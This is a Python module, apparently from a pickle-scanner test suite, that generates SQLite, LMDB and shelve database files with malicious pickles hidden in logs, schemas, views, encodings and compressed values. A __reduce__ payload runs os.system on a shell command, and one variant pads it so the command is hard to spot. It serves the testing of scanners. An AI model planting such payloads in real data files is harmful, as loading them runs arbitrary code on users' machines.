"""Pickles in the places of databases where no row of a table has them: logs, schemas, indexes, texts, values within values."""
import base64
import os
import pickle
import sqlite3
import tempfile
import zlib

from ..registry import Attack, SHELL, kind


class Runs:
    def __reduce__(self):
        return os.system, (SHELL,)


class Large(Runs):
    def __reduce__(self):
        return os.system, ('#' + 'x' * 10_000 + '\n' + SHELL,)


DATA = pickle.dumps(Runs(), 4)
QUERY = 'import sqlite3, pickle, zlib, base64\nc = sqlite3.connect(path)\nv = c.execute("select v from t").fetchall()[-1][0]\n'


def files_in(folder):
    return {name: open(os.path.join(folder, name), 'rb').read() for name in os.listdir(folder)}


def database(*statements, pragmas=()):
    with tempfile.TemporaryDirectory() as folder:
        with sqlite3.connect(os.path.join(folder, 'd.db'), isolation_level=None) as db:
            for pragma in pragmas:
                db.execute(pragma)
            for statement in statements:
                db.execute(*(statement if isinstance(statement, tuple) else (statement,)))
        db.close()
        return files_in(folder)


@kind('SQLite: a value in the log of changes')
def logged():
    for data, loads in ((DATA, 'pickle.loads(v)'), (pickle.dumps(Large()), 'pickle.loads(v)'), (zlib.compress(DATA), 'pickle.loads(zlib.decompress(v))')):
        with tempfile.TemporaryDirectory() as folder:
            db = sqlite3.connect(os.path.join(folder, 'd.db'), isolation_level=None)
            db.execute('pragma journal_mode=wal')
            db.execute('create table t (k, v blob)')
            db.execute('pragma wal_checkpoint(truncate)')
            db.execute('insert into t values (1, ?)', (data,))
            found = files_in(folder)
            db.close()
        found.pop('d.db-shm', None)
        yield Attack('d.db', found, loader=QUERY + loads)


@kind('SQLite: a value in the schema')
def schema():
    text = f"x'{DATA.hex()}'"
    yield Attack('d.db', database('create table t (k)', 'insert into t values (1)', f'alter table t add column v blob default {text}'), loader=QUERY + 'pickle.loads(v)')
    yield Attack('d.db', database(f'create view t as select {text} as v'), loader=QUERY + 'pickle.loads(v)')
    yield Attack('d.db', database(f'create table t (k, v as ({text}))', 'insert into t values (1)'), loader=QUERY + 'pickle.loads(v)')
    half = len(DATA) // 2
    split = f"x'{DATA[:half].hex()}' || x'{DATA[half:].hex()}'"
    yield Attack('d.db', database(f'create view t as select cast({split} as blob) as v'), loader=QUERY + 'pickle.loads(v)')


@kind('SQLite: other pages, tables and encodings')
def pages():
    insert = ('insert into t values (1, ?)', (DATA,))
    for pragmas in (['pragma page_size=512'], ['pragma page_size=65536'], ['pragma auto_vacuum=full'], ["pragma encoding='UTF-16le'"]):
        large = ('insert into t values (2, ?)', (pickle.dumps(Large()),))
        yield Attack('d.db', database('create table t (k, v)', insert, large, pragmas=pragmas), loader=QUERY + 'pickle.loads(v)')
    yield Attack('d.db', database('create table t (k primary key, v) without rowid', insert), loader=QUERY + 'pickle.loads(v)')
    yield Attack('d.db', database('create virtual table t using fts4(k, v, tokenize=simple)', insert), loader=QUERY + 'pickle.loads(v)')
    for encoding in ('UTF-8', 'UTF-16le', 'UTF-16be'):
        for text, loads in ((base64.b64encode(DATA).decode(), 'base64.b64decode(v)'), (DATA.hex(), 'bytes.fromhex(v)'), (pickle.dumps(Runs(), 0).decode(), 'v.encode()')):
            yield Attack('d.db', database('create table t (k, v text)', ('insert into t values (1, ?)', (text,)), pragmas=[f"pragma encoding='{encoding}'"]),
                         loader=QUERY + f'pickle.loads({loads})')


@kind('SQLite: values within values')
def within():
    import gzip
    import lzma
    for encode, decode in ((zlib.compress, 'zlib.decompress(v)'), (gzip.compress, '__import__("gzip").decompress(v)'), (lzma.compress, '__import__("lzma").decompress(v)'),
                           (lambda data: zlib.compress(zlib.compress(data)), 'zlib.decompress(zlib.decompress(v))'),
                           (lambda data: base64.b64encode(zlib.compress(data)), 'zlib.decompress(base64.b64decode(v))')):
        yield Attack('d.db', database('create table t (k, v)', ('insert into t values (1, ?)', (encode(DATA),))), loader=QUERY + f'pickle.loads({decode})')


@kind('LMDB: other trees')
def trees():
    import lmdb
    for dup in (False, True):
        for value in (Runs(), Large()) if not dup else (Runs(),):
            with tempfile.TemporaryDirectory() as folder:
                with lmdb.open(folder, map_size=1 << 22, max_dbs=4) as env:
                    db = env.open_db(b'named', dupsort=dup)
                    with env.begin(write=True, db=db) as txn:
                        for index in range(200):
                            txn.put(b'a%d' % index, b'x' * 50)
                        for index in range(40 if dup else 0):
                            txn.put(b'k', b'%03d' % index)
                        txn.put(b'k', pickle.dumps(value, 0 if dup else 4))
                data = files_in(folder)
            data.pop('lock.mdb', None)
            yield Attack('db', {f'db/{name}': each for name, each in data.items()}, loader=(
                'import lmdb, pickle\ne = lmdb.open(path, readonly=True, lock=False, max_dbs=4)\n'
                f'd = e.open_db(b"named", dupsort={dup}, create=False)\nwith e.begin(db=d) as t:\n c = t.cursor()\n c.set_key(b"k")\n {"c.last_dup()" if dup else "pass"}\n pickle.loads(c.value())'))


@kind('shelve: a value behind others')
def shelves():
    import dbm.dumb
    for wrap in (lambda files: ('s', files), packed):
        with tempfile.TemporaryDirectory() as folder:
            with dbm.dumb.open(os.path.join(folder, 's')) as store:
                store['a'] = pickle.dumps({'n': 1})
                store['k'] = DATA
            entry, files = wrap(files_in(folder))
        yield Attack(entry, files, loader='shelve' if entry == 's' else UNPACK + 's = shelve.open(d + "/s", "r"); [s[k] for k in s]')


UNPACK = 'import tarfile, tempfile, shelve\nd = tempfile.mkdtemp()\ntarfile.open(path).extractall(d, filter="data")\n'


def packed(files):
    import io
    import tarfile
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode='w:gz') as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return 'm.tar.gz', {'m.tar.gz': buffer.getvalue()}
